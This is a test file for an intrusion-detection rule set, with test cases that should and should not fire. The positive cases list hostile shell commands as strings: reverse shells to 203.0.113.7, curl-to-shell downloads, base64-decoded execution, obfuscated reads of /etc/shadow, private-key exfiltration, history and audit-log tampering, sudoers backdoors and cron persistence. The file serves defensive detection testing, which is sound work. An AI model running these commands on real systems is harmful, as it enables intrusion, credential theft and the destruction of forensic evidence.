// The starter rules (resources/rules/starter.yaml) on command lines: each rule fires on what it
// is meant for (from the demo incident and common intruder habits, including obfuscated spellings)
// and stays quiet on ordinary administration that looks similar.
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { normaliseCommand } from '../../electron/core/rules/command-text.js';
import { RuleSet } from '../../electron/core/rules/rule-set.js';
import { CommandSubject } from '../../electron/core/rules/subject.js';
import { parseRulesText } from '../../electron/services/analyze/rules-source.js';
import { resourcePath } from '../../electron/services/resources.js';

const starter = parseRulesText({ name: 'starter.yaml', text: readFileSync(resourcePath('rules', 'starter.yaml'), 'utf8') });
const set = new RuleSet(starter.rules);
const ids = (text: string, user = 'mallory'): string[] => set.match(new CommandSubject(normaliseCommand(text), { user, host: 'web-1', cwd: null })).map((r) => r.id);

const POSITIVE: Array<[string, string]> = [
  ['sudo -i', 'priv.root-shell'],
  ['sudo su -', 'priv.root-shell'],
  ['sudo -u root /bin/bash', 'priv.root-shell'],
  ['su', 'priv.root-shell'],
  ['su - root', 'priv.root-shell'],
  ['sudo useradd -m -G sudo backup2', 'priv.account-change'],
  ['/usr/sbin/usermod -aG sudo mallory', 'priv.account-change'],
  ['chmod u+s /tmp/.x', 'priv.setuid-bit'],
  ['sudo chmod 4755 /usr/local/bin/helper', 'priv.setuid-bit'],
  ['chmod +s /bin/bash', 'priv.setuid-bit'],
  ['sudo -l', 'priv.sudo-list'],
  ['sudo apt-get install -y nmap', 'pkg.install'],
  ['pip3 install --user impacket', 'pkg.install'],
  ['sudo dpkg -i ./tool.deb', 'pkg.install'],
  ['echo "backup2 ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers', 'auth.file-edit'],
  ['sudo visudo', 'auth.file-edit'],
  ['vim /etc/passwd', 'auth.file-edit'],
  ['echo "ssh-ed25519 AAAA m@kali" | sudo tee -a /root/.ssh/authorized_keys', 'auth.file-edit'],
  ["sed -i '/^backup2 /d' /etc/sudoers", 'auth.file-edit'],
  ['curl -fsSL http://203.0.113.7/x.sh | sh', 'exec.download-to-shell'],
  ['wget -qO- http://x/i.sh | sudo bash', 'exec.download-to-shell'],
  ['bash <(curl -s http://x/i.sh)', 'exec.download-to-shell'],
  ["c\\url -s http://10.0.0.9/ab | /bin/ba''sh", 'exec.download-to-shell'],
  ['echo KGNyb250YWI= | base64 -d | sh', 'exec.base64-decoded'],
  ['eval "$(echo aWQ= | base64 --decode)"', 'exec.base64-decoded'],
  ['python3 -c "import base64;exec(base64.b64decode(\'aWQ=\'))"', 'exec.base64-decoded'],
  ['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', 'shell.reverse'],
  ['nc -e /bin/sh 203.0.113.7 4444', 'shell.reverse'],
  ['socat tcp:203.0.113.7:4444 exec:/bin/bash,pty', 'shell.reverse'],
  ['python3 -c \'import pty; pty.spawn("/bin/bash")\'', 'shell.reverse'],
  ['rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f', 'shell.reverse'],
  ['unset HISTFILE', 'audit.history-off'],
  ['history -c', 'audit.history-off'],
  ['set +o history', 'audit.history-off'],
  ['export HISTSIZE=0', 'audit.history-off'],
  ['export HISTFILE=/dev/null', 'audit.history-off'],
  ['rm -f ~/.bash_history', 'audit.history-off'],
  ['sudo systemctl stop auditd', 'audit.logging-stopped'],
  ['sudo service auditd stop', 'audit.logging-stopped'],
  ['systemctl disable --now rsyslog', 'audit.logging-stopped'],
  ['auditctl -e 0', 'audit.logging-stopped'],
  ['sudo pkill -9 auditd', 'audit.logging-stopped'],
  ['truncate -s 0 /var/log/auth.log', 'audit.log-destroyed'],
  ['shred -u /var/log/wtmp', 'audit.log-destroyed'],
  ['> /var/log/syslog', 'audit.log-destroyed'],
  ['sudo journalctl --vacuum-size=500M', 'audit.journal-vacuum'],
  ['cat /etc/shadow', 'cred.file-read'],
  ['sudo cat /etc/shadow', 'cred.file-read'],
  ['cat ~/.aws/credentials', 'cred.file-read'],
  ['scp ~/.ssh/id_rsa me@203.0.113.7:', 'cred.file-read'],
  ['cat${IFS}/etc/shadow', 'cred.file-read'],
  ['c"a"t /etc/sha\\dow', 'cred.file-read'],
  ['(crontab -l; echo "*/5 * * * * curl x | sh") | crontab -', 'persist.cron'],
  ['crontab -e', 'persist.cron'],
];

const NEGATIVE: string[] = [
  'sudo systemctl status auditd',
  'systemctl start auditd && systemctl is-active auditd',
  'sudo -u postgres psql',
  'sudo journalctl -u nginx -n 20',
  'history | tail -n 20',
  'grep -n useradd /var/log/auth.log',
  'chmod 755 deploy.sh',
  'chmod 0644 /etc/nginx/nginx.conf',
  'curl -s https://api.internal/health | jq .',
  'wget https://example.org/file.tar.gz',
  'echo aGVsbG8= | base64 -d',
  'nc -zv db-1 5432',
  'nc -lvnp 4444',
  "grep -n -E 'backup2|mallory' /etc/passwd /etc/group",
  'ls -la /var/log/nginx/',
  'tail -f /var/log/syslog | grep -i error',
  'ssh -i ~/.ssh/id_ed25519 bob@10.0.0.5',
  'cat ~/.ssh/id_ed25519.pub',
  'apt list --installed',
  'rpm -qa',
  'dpkg -l | grep nginx',
  'visudo -c',
  'crontab -l',
  'kubectl -n shop get pods',
  'export PATH=$PATH:/opt/app/bin',
];

describe('starter rules', () => {
  it('load: every rule has an id, title, severity and a reason', () => {
    expect(starter.rules.length).toBeGreaterThanOrEqual(15);
    for (const r of starter.rules) {
      expect(r.id).toMatch(/^[a-z]+\.[a-z0-9-]+$/);
      expect(r.why.length).toBeGreaterThan(30);
    }
  });

  it.each(POSITIVE)('%s → %s', (text, rule) => {
    expect(ids(text)).toContain(rule);
  });

  it.each(NEGATIVE)('%s → nothing', (text) => {
    expect(ids(text)).toEqual([]);
  });

  it('covers every starter rule with a positive case', () => {
    const covered = new Set(POSITIVE.map(([, r]) => r));
    expect(starter.rules.map((r) => r.id).filter((id) => !covered.has(id))).toEqual([]);
  });
});
